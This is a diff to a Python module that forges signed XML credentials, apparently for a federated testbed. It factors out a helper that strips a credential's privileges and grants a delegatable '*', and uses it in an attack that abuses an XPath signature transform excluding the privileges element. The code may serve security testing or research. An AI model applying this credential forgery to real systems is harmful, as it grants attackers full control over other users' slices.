@@ -48,6 +48,11 @@ def _claim_victim(cred: etree._Element, a: Attacker) -> None:
     """Rewrite a credential element so it grants the attacker everything on the victim's slice."""
     _set(cred, "target_urn", a.victim_slice_urn)
     _set(cred, "target_gid", a.victim_slice_cert_pem.decode())
+    _claim_everything(cred)
+
+
+def _claim_everything(cred: etree._Element) -> None:
+    """Replace a credential element's privileges by `*`, delegatable."""
     privs = cred.find("privileges")
     for p in list(privs):
         privs.remove(p)
@@ -283,15 +288,6 @@ def signer_mistake_xpath(genuine_owner_cert: bytes, target_cert: bytes, target_u
     etree.SubElement(t, f"{{{DS}}}XPath").text = "not(ancestor-or-self::privileges)"
     signed = _resign(root, sa_key, sa_chain)
     root = _root(signed)
-    _claim_victim_privileges(root.find("credential"))
+    _claim_everything(root.find("credential"))
     assert target_urn in signed
     return _text(root)
-
-
-def _claim_victim_privileges(cred: etree._Element) -> None:
-    privs = cred.find("privileges")
-    for p in list(privs):
-        privs.remove(p)
-    p = etree.SubElement(privs, "privilege")
-    etree.SubElement(p, "name").text = "*"
-    etree.SubElement(p, "can_delegate").text = "true"
